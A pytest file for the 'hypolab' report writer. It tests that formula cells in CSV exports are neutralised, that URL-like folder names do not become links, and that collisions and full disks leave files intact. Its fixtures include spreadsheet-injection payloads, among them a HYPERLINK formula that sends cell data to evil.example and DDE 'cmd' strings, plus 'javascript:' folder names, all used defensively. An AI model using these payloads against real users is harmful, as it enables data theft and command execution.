"""Hostile input, reports: what a file, a folder name or a full disk once did to the report set.

Each test plants the attack (an arm named ``=HYPERLINK(...)``, a folder named
``javascript:...``, a user's own ``index.html``, a full disk, two files with
one name) and checks the clean outcome on the filesystem: what hypolab wrote
is inside the reports root, files it did not write are byte-for-byte
untouched (SHA-256), and a refused write leaves no ``.partial`` file and no
half-replaced report set.
"""

from __future__ import annotations

import csv
import errno
import hashlib
import io
import json
import os
import re
import shutil
import subprocess
import sys
import urllib.parse
from pathlib import Path

import pytest
from report_cases import HYPOTHESIS_YAML, analysis_of, make_hypothesis, make_results, stored_results
from runner_cases import fake_local_module, write_hypothesis

from hypolab import outputs, plan
from hypolab.cli import main
from hypolab.errors import ReportError
from hypolab.hypothesis import load as load_hypothesis
from hypolab.report import write_index, write_report
from hypolab.report.write import check_can_write
from hypolab.store import RunStore

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3", "'=already quoted"]  # fmt: skip


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def files_under(root: Path) -> set[str]:
    return {p.relative_to(root).as_posix() for p in root.rglob("*") if not p.is_dir()}


@pytest.fixture
def fake_executor(monkeypatch):
    """``hypolab test`` trains with the fake executor: records at once, no Keras."""
    monkeypatch.setitem(sys.modules, "hypolab.executors.local", fake_local_module(0.0))


# -- runs.csv: spreadsheet formulas -------------------------------------------


def test_runs_csv_neutralises_formulas_and_analyze_reads_them_back(runner, tmp_path):
    arms = [(name, 8 * (i + 1)) for i, name in enumerate(FORMULAS)]
    h = make_hypothesis(treatments=arms, seeds=4)
    values = {arm.name: [-0.5 - 0.01 * s - 0.02 * i for s in range(4)] for i, arm in enumerate(h.arms)}
    results = make_results(h, values=values)
    write_report(h, results, analysis_of(h, results), tmp_path / "reports" / h.name)
    path = tmp_path / "reports" / h.name / "runs.csv"

    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
    for row in rows:
        for column, cell in row.items():
            if column != "value":
                assert cell[:1] not in set("=+-@\t\r"), (column, cell)
    accuracies = [row["value"] for row in rows if row["metric"] == "test_accuracy"]
    assert "-0.5" in accuracies and all(float(v) < 0 for v in accuracies)  # numbers stay numbers
    assert {row["arm"] for row in rows} >= {"'" + name for name in FORMULAS}

    out = tmp_path / "analysis.json"
    result = runner.invoke(main, ["analyze", str(path), "--metric", "test_accuracy", "--control", "batch 128",
                                  "--direction", "greater", "--margin", "0.01", "--json", str(out)])  # fmt: skip
    assert result.exit_code == 0, result.output
    read_back = json.loads(out.read_text(encoding="utf-8"))
    expected = analysis_of(h, results).to_dict()
    assert [(a["name"], a["n"], a["mean"]) for a in read_back["arms"]] == [
        (a["name"], a["n"], a["mean"]) for a in expected["arms"]]
    assert [(c["treatment"], c["difference"], c["pvalue"]) for c in read_back["comparisons"]] == [
        (c["treatment"], c["difference"], c["pvalue"]) for c in expected["comparisons"]]


def test_neutralising_round_trips_every_text():
    from hypolab.report.csvcells import neutralise, restore

    for text in ["", "'", "''", "plain", "'quoted", "''=x", "'=x", "=x", "-", "@", "\tx", "\rx", "+1", "batch 4"]:
        assert restore(neutralise(text)) == text, text
        assert neutralise(text)[:1] not in set("=+-@\t\r")
    assert restore("'plain") == "'plain"  # a cell no one neutralised reads as written


# -- the page: plain text in plots, safe links in the index ------------------


def test_an_arm_named_like_math_text_renders(tmp_path):
    import matplotlib

    h = make_hypothesis(treatments=[("price $x^$", 4), (r"\frac{a}{b} $$", 8)], seeds=3)
    results = make_results(h)
    before = dict(matplotlib.rcParams)
    page = write_report(h, results, analysis_of(h, results), tmp_path / h.name)
    html = page.read_text(encoding="utf-8")
    assert "price $x^$" in html
    assert html.count("data:image/svg+xml;base64,") >= 2
    assert dict(matplotlib.rcParams) == before  # the style is applied to the figures only


@pytest.mark.parametrize("folder", ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text,x", "mailto:x@y"],
                         ids=["javascript", "mixed-case", "data", "mailto"])  # fmt: skip
def test_a_report_folder_named_like_a_url_never_becomes_a_link_elsewhere(tmp_path, folder):
    h = make_hypothesis(seeds=3)
    results = make_results(h)
    root = tmp_path / "reports"
    write_report(h, results, analysis_of(h, results), root / h.name)
    (root / folder).mkdir()
    shutil.copy(root / h.name / "results.json", root / folder / "results.json")

    html = write_index(root).read_text(encoding="utf-8")
    hrefs = re.findall(r'href="([^"]*)"', html)
    assert len(hrefs) == 2
    for href in hrefs:
        parts = urllib.parse.urlsplit(href)
        assert not parts.scheme and not parts.netloc, href
        assert href.endswith("/index.html")
    assert f'href="{urllib.parse.quote(folder, safe="")}/index.html"' in html
    assert "javascript:" not in " ".join(hrefs).lower()


# -- names and collisions -----------------------------------------------------


def test_a_hypothesis_named_like_a_tune_report_is_refused(runner, tmp_path):
    (tmp_path / "hypotheses").mkdir()
    path = write_hypothesis(tmp_path / "hypotheses", name="tune-digits_mlp")
    result = runner.invoke(main, ["validate", str(path)])
    assert result.exit_code == 1
    assert (f"Error: {path}:1:1: the file name gives the report folder reports/tune-digits_mlp/, which belongs "
            "to 'hypolab tune' (reports/tune-<search>/, here the search 'digits_mlp'). Expected a file name that "
            "does not start with 'tune-': rename tune-digits_mlp.yaml, e.g. to digits_mlp.yaml.") in result.output


def test_files_with_one_stem_in_different_folders_get_their_own_report_and_registration(
    runner, tmp_path, fake_executor, monkeypatch
):
    for folder in ("hypotheses/digits", "hypotheses/fashion", "hypotheses"):
        (tmp_path / folder).mkdir(parents=True, exist_ok=True)
        write_hypothesis(tmp_path / folder, name="batchsize", seeds=2)
    names = {}
    for file in ("hypotheses/digits/batchsize.yaml", "hypotheses/fashion/batchsize.yaml", "hypotheses/batchsize.yaml"):
        result = runner.invoke(main, ["test", file, "--store", "runs.sqlite"])
        assert result.exit_code == 0, result.output
        names[file] = load_hypothesis(file).name
    assert names == {"hypotheses/digits/batchsize.yaml": "digits--batchsize",
                     "hypotheses/fashion/batchsize.yaml": "fashion--batchsize",
                     "hypotheses/batchsize.yaml": "batchsize"}  # fmt: skip
    for file, name in names.items():
        data = json.loads((tmp_path / "reports" / name / "results.json").read_text(encoding="utf-8"))
        assert data["report"]["path"] == file
    with RunStore(tmp_path / "runs.sqlite") as store:
        assert sorted(store.hypotheses()) == sorted((name, file) for file, name in names.items())
    # The same file from another working directory keeps its name.
    monkeypatch.chdir(tmp_path / "hypotheses")
    assert load_hypothesis("digits/batchsize.yaml").name == "digits--batchsize"


def test_another_file_with_the_same_name_never_overwrites_a_report(runner, tmp_path, fake_executor):
    for folder in ("one", "two"):
        (tmp_path / folder).mkdir()
        write_hypothesis(tmp_path / folder, name="tiny", seeds=2)
    first = runner.invoke(main, ["test", "one/tiny.yaml", "--store", "runs.sqlite"])
    assert first.exit_code == 0, first.output
    report = tmp_path / "reports" / "tiny"
    before = {name: sha256(report / name) for name in os.listdir(report)}
    with RunStore(tmp_path / "runs.sqlite") as store:
        runs_before = len(store.results_for(s.key for s in plan.plan(load_hypothesis("one/tiny.yaml"))))

    second = runner.invoke(main, ["test", "two/tiny.yaml", "--store", "runs.sqlite"])
    assert second.exit_code == 1
    assert ("Error: Refusing to write the report of two/tiny.yaml into reports/tiny: it holds the report of "
            "one/tiny.yaml, another file with the same name 'tiny'.") in second.output
    assert "Traceback" not in second.output
    assert {name: sha256(report / name) for name in os.listdir(report)} == before
    with RunStore(tmp_path / "runs.sqlite") as store:  # refused before anything was registered or trained
        assert [name for name, _ in store.hypotheses()] == ["tiny"]
        assert len(store.results_for(s.key for s in plan.plan(load_hypothesis("one/tiny.yaml")))) == runs_before


# -- files hypolab did not write -------------------------------------------


def _stored(tmp_path) -> tuple[Path, Path]:
    path = tmp_path / "batchsize.yaml"
    path.write_text(HYPOTHESIS_YAML.format(claim="Batch 4 beats batch 128", seeds=3), encoding="utf-8")
    h = load_hypothesis(path)
    store = tmp_path / "runs.sqlite"
    with RunStore(store) as run_store:
        for result in stored_results(h, plan.plan(h)):
            run_store.put(result)
    return path, store


def test_report_out_never_replaces_a_users_own_index(runner, tmp_path):
    path, store = _stored(tmp_path)
    site = tmp_path / "site"
    site.mkdir()
    (site / "index.html").write_text("<html>my own home page</html>\n", encoding="utf-8")
    before = sha256(site / "index.html")
    result = runner.invoke(main, ["report", str(path), "--store", str(store), "--out", str(site)])
    assert result.exit_code == 1
    assert (f"Error: Refusing to replace {site / 'index.html'}: it is not a page hypolab wrote. Expected the index "
            "of hypolab's reports, or no file") in result.output
    assert sha256(site / "index.html") == before
    assert (site / "batchsize" / "index.html").is_file()  # the report itself was written
    assert not [p for p in site.rglob("*.partial")]


@pytest.mark.parametrize("own", ["index.html", "runs.csv"])
def test_report_out_never_replaces_a_users_own_files_in_a_report_folder(runner, tmp_path, own):
    path, store = _stored(tmp_path)
    folder = tmp_path / "site" / "batchsize"
    folder.mkdir(parents=True)
    (folder / own).write_text("mine\n", encoding="utf-8")
    before = sha256(folder / own)
    result = runner.invoke(main, ["report", str(path), "--store", str(store), "--out", str(tmp_path / "site")])
    assert result.exit_code == 1
    assert f"Error: Refusing to write the report of {path} into {folder}: it holds {own}" in result.output
    assert files_under(folder) == {own} and sha256(folder / own) == before


def test_the_report_writer_writes_nothing_outside_its_folder_and_the_index(tmp_path):
    h = make_hypothesis(seeds=3)
    results = make_results(h)
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "keep.txt").write_text("keep", encoding="utf-8")
    write_report(h, results, analysis_of(h, results), tmp_path / "reports" / h.name)
    assert files_under(tmp_path) == {"elsewhere/keep.txt", "reports/index.html",
                                     *(f"reports/{h.name}/{n}" for n in ("index.html", "results.json", "runs.csv", "summary.md"))}  # fmt: skip


def test_a_report_into_the_working_folder_never_overwrites_its_page_with_the_index(tmp_path, monkeypatch):
    h = make_hypothesis(seeds=3)
    results = make_results(h)
    (tmp_path / "reports" / "here").mkdir(parents=True)
    monkeypatch.chdir(tmp_path / "reports" / "here")
    page = write_report(h, results, analysis_of(h, results), ".")
    html = page.read_text(encoding="utf-8")
    assert "All reports" in html and "Hypotheses tested" not in html  # the report, not the index
    assert (tmp_path / "reports" / "index.html").is_file()


# -- unwritable folders and full disks ---------------------------------------


def _read_only_mount(folder: Path) -> None:
    folder.mkdir(parents=True)
    done = subprocess.run(["mount", "-t", "tmpfs", "-o", "ro,size=64k", "tmpfs", str(folder)], capture_output=True)
    if done.returncode != 0:
        shutil.rmtree(folder)
        pytest.skip("as root a read-only folder needs a read-only mount, and mount is not allowed here")


def test_an_unwritable_report_folder_is_found_before_training(runner, tmp_path, fake_executor):
    path = write_hypothesis(tmp_path, seeds=2)
    folder = tmp_path / "reports" / "tiny"
    if os.geteuid() == 0:
        _read_only_mount(folder)
    else:
        folder.mkdir(parents=True)
        folder.chmod(0o555)
    try:
        result = runner.invoke(main, ["test", str(path), "--store", "runs.sqlite"])
    finally:
        subprocess.run(["umount", str(folder)], capture_output=True) if os.geteuid() == 0 else folder.chmod(0o755)
    assert result.exit_code == 1
    assert re.search(r"Error: Cannot write the report of .*tiny.yaml into reports/tiny: (Read-only file system|"
                     r"Permission denied) \(checked before training\)\.", result.output), result.output
    assert "runs planned" not in result.output  # nothing was planned, claimed or trained
    assert not (tmp_path / "runs.sqlite").exists()


def test_a_report_folder_that_is_a_file_is_found_before_training(runner, tmp_path, fake_executor):
    path = write_hypothesis(tmp_path, seeds=2)
    (tmp_path / "reports").mkdir()
    (tmp_path / "reports" / "tiny").write_text("a file", encoding="utf-8")
    result = runner.invoke(main, ["test", str(path), "--store", "runs.sqlite"])
    assert result.exit_code == 1
    assert "Error: Cannot write reports/tiny/index.html: reports/tiny is a file, not a folder." in result.output
    assert "(checked before training)" in result.output and not (tmp_path / "runs.sqlite").exists()


def test_checking_the_report_folder_leaves_nothing_behind(tmp_path):
    h = make_hypothesis(seeds=3)
    check_can_write(h, tmp_path / "reports" / "deep" / h.name)
    assert list(tmp_path.iterdir()) == []


def _report_set(folder: Path) -> dict[str, str]:
    return {name: sha256(folder / name) for name in ("index.html", "results.json", "runs.csv", "summary.md")}


def test_a_full_disk_replaces_no_file_of_the_report_set(tmp_path, monkeypatch):
    h = make_hypothesis(seeds=3)
    results = make_results(h)
    folder = tmp_path / "reports" / h.name
    write_report(h, results, analysis_of(h, results), folder, command="first")
    before = _report_set(folder)
    calls = []
    real_fsync = os.fsync

    def fsync(descriptor):
        calls.append(descriptor)
        if len(calls) == 3:  # the third file of the set meets a full disk
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        real_fsync(descriptor)

    monkeypatch.setattr(outputs.os, "fsync", fsync)
    with pytest.raises(ReportError, match=r"Cannot write .*runs.csv: No space left on device\. .*Nothing was replaced: "
                                          r"index.html, results.json, runs.csv, summary.md are as they were\."):
        write_report(h, results, analysis_of(h, results), folder, command="second")
    assert _report_set(folder) == before
    assert sorted(os.listdir(folder)) == ["index.html", "results.json", "runs.csv", "summary.md"]


def test_a_full_tmpfs_replaces_no_file_of_the_report_set(tmp_path):
    if os.geteuid() != 0:
        pytest.skip("mounting a small tmpfs needs root; the ENOSPC test above covers the same path")
    disk = tmp_path / "disk"
    disk.mkdir()
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=4m", "tmpfs", str(disk)], capture_output=True).returncode:
        pytest.skip("mount is not allowed here; the ENOSPC test above covers the same path")
    try:
        h = make_hypothesis(seeds=3)
        results = make_results(h)
        folder = disk / "reports" / h.name
        write_report(h, results, analysis_of(h, results), folder)
        before = _report_set(folder)
        stat = os.statvfs(disk)
        free = stat.f_bavail * stat.f_frsize
        set_size = sum((folder / name).stat().st_size for name in before)
        (disk / "filler").write_bytes(b"\0" * max(0, free - set_size // 2))
        with pytest.raises(ReportError, match="No space left on device"):
            write_report(h, results, analysis_of(h, results), folder)
        assert _report_set(folder) == before
        assert not [p for p in disk.rglob("*.partial")]
    finally:
        subprocess.run(["umount", str(disk)], capture_output=True)


def test_new_refuses_a_name_of_a_tune_report(runner, tmp_path):
    result = runner.invoke(main, ["new", "tune-digits_mlp"])
    assert result.exit_code == 2
    assert ("NAME must not start with 'tune-': reports/tune-<search>/ belongs to 'hypolab tune'. Got "
            "'tune-digits_mlp'; choose another NAME, e.g. 'digits_mlp'.") in result.output
    assert not (tmp_path / "hypotheses").exists()
